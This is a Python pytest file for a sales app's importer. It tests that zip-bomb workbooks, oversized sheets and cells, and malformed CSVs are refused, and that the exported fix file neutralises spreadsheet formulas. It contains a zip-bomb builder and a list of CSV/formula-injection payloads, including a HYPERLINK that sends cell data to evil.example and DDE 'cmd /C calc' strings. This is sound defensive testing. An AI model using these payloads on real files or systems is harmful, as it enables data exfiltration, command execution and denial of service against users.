"""Uploads that cannot hurt (issue 13, must have 2): an .xlsx is checked as an archive before
anything is inflated, its sheet is streamed with limits on rows, columns and cell length, its
claimed size is never a loop bound; and the fix file written back never holds a formula."""

from __future__ import annotations

import csv
import io
import time
import zipfile

import openpyxl
import pytest

from tests.unit.test_import import PURCHASE_HEADER, csv_bytes, run_batch, xlsx
from webapp.sales import service
from webapp.sales.importer import tables
from webapp.sales.importer.cells import FileRefused
from webapp.sales.models import BatchStatus, ImportKind, RowOutcome


def _with_member(data: bytes, name: str, content: bytes) -> bytes:
    """A copy of the workbook `data` with `name` replaced by (or added as) `content`."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            if item.filename != name:
                target.writestr(item, source.read(item.filename))
        target.writestr(name, content)
    return out.getvalue()


def zip_bomb(inflated_mb: int = 300) -> bytes:
    """A workbook whose sheet inflates to `inflated_mb` MB of one repeated row."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    body = row * (inflated_mb * 1024 * 1024 // len(row))
    sheet = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main"><sheetData>' + body + b"</sheetData></worksheet>"
    )
    return _with_member(xlsx([["a"]]), "xl/worksheets/sheet1.xml", sheet)


def refusal(data: bytes, filename: str = "f.xlsx") -> FileRefused:
    with pytest.raises(FileRefused) as refused:
        table = tables.read_table(filename, data)
        for _row in table.rows:
            pass
    return refused.value


def test_a_zip_bomb_is_refused_before_it_is_inflated():
    bomb = zip_bomb(60)
    assert len(bomb) < 1024 * 1024
    started = time.perf_counter()
    assert refusal(bomb).code == "zip_ratio"
    assert time.perf_counter() - started < 1.0


def test_an_archive_that_would_unpack_too_far_is_refused(monkeypatch):
    monkeypatch.setattr(tables, "MAX_UNCOMPRESSED_BYTES", 64 * 1024)
    big = xlsx([PURCHASE_HEADER] + [[f"row {i}", i] for i in range(4000)])
    assert refusal(big).code == "zip_size"


def test_an_archive_of_too_many_members_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for n in range(tables.MAX_ZIP_MEMBERS + 1):
            archive.writestr(f"part{n}.xml", b"<a/>")
    assert refusal(out.getvalue()).code == "zip_members"


SHEET = (
    '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/'
    'main"><dimension ref="{dim}"/><sheetData>{rows}</sheetData></worksheet>'
)


def test_a_row_numbered_twenty_million_is_refused_at_once():
    """1.6 KB that used to hold a request for 9–13 s: the empty rows before it were walked."""
    row = '<row r="20000000"><c r="A20000000" t="inlineStr"><is><t>税号</t></is></c></row>'
    sheet = SHEET.format(dim="A20000000", rows=row).encode()
    data = _with_member(xlsx([["a"]]), "xl/worksheets/sheet1.xml", sheet)
    started = time.perf_counter()
    refused = refusal(data)
    assert refused.code == "too_many_rows"
    assert time.perf_counter() - started < 1.0


def test_a_claimed_sheet_size_is_no_loop_bound():
    data = xlsx([PURCHASE_HEADER, ["x"] * len(PURCHASE_HEADER)])
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    sheet = sheet.replace(b'<dimension ref="A1:I2"/>', b'<dimension ref="A1:XFD1048576"/>')
    table = tables.read_table("f.xlsx", _with_member(data, "xl/worksheets/sheet1.xml", sheet))
    assert len(list(table.rows)) == 1
    assert table.total <= tables.MAX_ROWS


def test_a_cell_far_to_the_right_is_refused():
    workbook = openpyxl.Workbook()
    workbook.active.cell(row=1, column=tables.MAX_COLUMNS + 1, value="x")
    data = io.BytesIO()
    workbook.save(data)
    assert refusal(data.getvalue()).code == "too_many_columns"


def test_a_huge_cell_is_refused():
    long = "x" * (tables.MAX_CELL_CHARS + 1)
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>税号</t></is></c></row>'
        f'<row r="2"><c r="A2" t="inlineStr"><is><t>{long}</t></is></c></row>'
    )
    sheet = SHEET.format(dim="A1:A2", rows=rows).encode()
    refused = refusal(_with_member(xlsx([["a"]]), "xl/worksheets/sheet1.xml", sheet))
    assert refused.code == "cell_size" and refused.params["row"] == 2


@pytest.mark.parametrize(
    ("rows", "code"),
    [
        ([["a"] * (tables.MAX_COLUMNS + 1)], "too_many_columns"),
        ([["税号"], ["x" * (tables.MAX_CELL_CHARS + 1)]], "cell_size"),
        ([["税号"], ['"' + "x" * 200_000]], "cell_size"),  # beyond csv's own field limit
    ],
    ids=["columns", "cell", "unterminated-quote"],
)
def test_csv_limits(rows, code):
    assert refusal(csv_bytes(rows), "f.csv").code == code


def test_too_many_csv_rows_are_refused(monkeypatch):
    monkeypatch.setattr(tables, "MAX_ROWS", 10)
    assert refusal(csv_bytes([["税号"]] + [["x"]] * 11), "f.csv").code == "too_many_rows"


def test_every_limit_reads_as_a_sentence():
    for code, params in (
        ("zip_ratio", {}),
        ("zip_size", {"max": 160}),
        ("zip_members", {"max": 1000}),
        ("too_many_rows", {"max": "300,000"}),
        ("too_many_columns", {"max": 200}),
        ("cell_size", {"row": 2, "max": "32,767"}),
    ):
        text = service.reason_text(code, params)
        assert text != code and "%(" not in text


def test_a_bomb_upload_fails_its_batch_with_the_message(world):
    batch = run_batch(world.finance, "bomb.xlsx", zip_bomb(60))
    assert batch.status is BatchStatus.FAILED
    assert '"zip_ratio"' in batch.message
    assert service.failure_text(batch) == service.reason_text("zip_ratio")


# --- formulas in the fix file -------------------------------------------------------------------

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", HOSTILE)
def test_the_fix_file_never_holds_a_formula(payload):
    header = [*PURCHASE_HEADER, payload]  # in the header row too
    cells = ["", payload, "2026-03-05", payload, payload, "", "1", "100", "0", payload]
    outcomes = [{"row_number": 2, "outcome": RowOutcome.BAD, "cells": cells, "problems": []}]
    text = service.rows_csv(header, outcomes, ImportKind.PURCHASE).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell
    assert rows[0][-3] == rows[1][1] == "'" + payload  # shown as typed, not run


def test_negative_amounts_stay_numbers_in_number_columns():
    cells = ["", "客户", "2026-03-05", "-12", "钢材", "", "-5", "-1200.50", -30]
    outcomes = [{"row_number": 2, "outcome": RowOutcome.BAD, "cells": cells, "problems": []}]
    text = service.rows_csv(PURCHASE_HEADER, outcomes, ImportKind.PURCHASE).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(text)))[1]
    assert row[6:9] == ["-5", "-1200.50", "-30"]  # quantity, amount, settled: numbers
    assert row[3] == "'-12"  # the document number is text: neutralised


def test_control_characters_in_cells_make_the_row_bad_not_the_import_fail(world):
    """PostgreSQL cannot store NUL even inside JSON: the cell is refused with a message and the
    row kept as it was, the NUL shown as �."""
    from tests.unit.test_import import _purchases, outcomes

    rows = _purchases(world, {"doc": "N1"}, {"doc": "N2", "product": "钢\x00材"})
    batch = run_batch(world.finance, "nul.csv", csv_bytes(rows))
    assert batch.status is BatchStatus.CHECKED
    found = outcomes(batch)
    assert found[2].outcome is RowOutcome.NEW
    assert found[3].outcome is RowOutcome.BAD
    assert found[3].problems == [["品种", "control", {}]]
    assert "钢\ufffd材" in found[3].cells
    assert service.reason_text("control") != "control"
